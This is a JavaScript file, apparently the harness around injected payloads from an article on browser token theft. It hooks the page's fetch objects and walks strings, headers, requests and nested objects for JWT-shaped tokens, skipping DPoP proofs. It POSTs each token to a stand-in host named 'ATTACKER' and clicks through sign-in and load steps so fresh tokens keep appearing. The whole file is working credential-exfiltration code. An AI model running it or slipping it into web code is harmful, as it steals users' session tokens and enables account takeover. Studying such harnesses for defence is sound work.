// What stands around the payloads, but for the article's: a way to send that cannot
// be changed under them, eyes for tokens, and a user who goes on working, so that
// nobody has to wait for one.
((fetch, { Headers, Request }) => {
  const sent = [];
  const send = (loot) => {
    const body = typeof loot === "string" ? loot : JSON.stringify(loot);
    sent.push(fetch("ATTACKER", { method: "POST", mode: "no-cors", body }));
  };

  const seen = new Set();
  const look = (value, depth = 0) => {
    if (typeof value === "string") {
      for (const [token] of value.matchAll(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g)) {
        // A proof is good for one call, which the page makes itself: hold.js is about that.
        if (!seen.has(token) && !atob(token.split(".")[0].replace(/-/g, "+").replace(/_/g, "/")).includes("dpop+jwt")) send(token);
        seen.add(token);
      }
    } else if (value instanceof Headers) {
      value.forEach((text) => look(text));
    } else if (value instanceof Request) {
      look(value.headers);
    } else if (value instanceof Object && depth < 4 && !ArrayBuffer.isView(value)) {
      for (const { value: inner } of Object.values(Object.getOwnPropertyDescriptors(value))) look(inner, depth + 1);
    }
  };

  const user = async (again) => {
    const find = (selector) => document.querySelector(selector);
    const is = (...states) => states.includes(find("#state").dataset.state);
    const until = (test) =>
      new Promise((resolve) => {
        const check = () => test() && resolve();
        new MutationObserver(check).observe(document, { subtree: true, attributes: true, childList: true });
        check();
      });
    await until(() => !is("starting"));
    if (again && is("in")) {
      find("#sign-out").click();
      await until(() => is("out"));
    }
    if (!is("in")) find("#sign-in").requestSubmit();
    await until(() => is("in"));
    const { count } = find("#answer").dataset;
    find("#load").click();
    await until(() => find("#answer").dataset.count !== count);
  };

  const attack = async () => {
    PAYLOAD;
  };
  attack()
    .catch((error) => send(`error: ${error}`))
    .then(() => Promise.allSettled(sent))
    .then(() => send("done"));
})(window.fetch.bind(window), window);
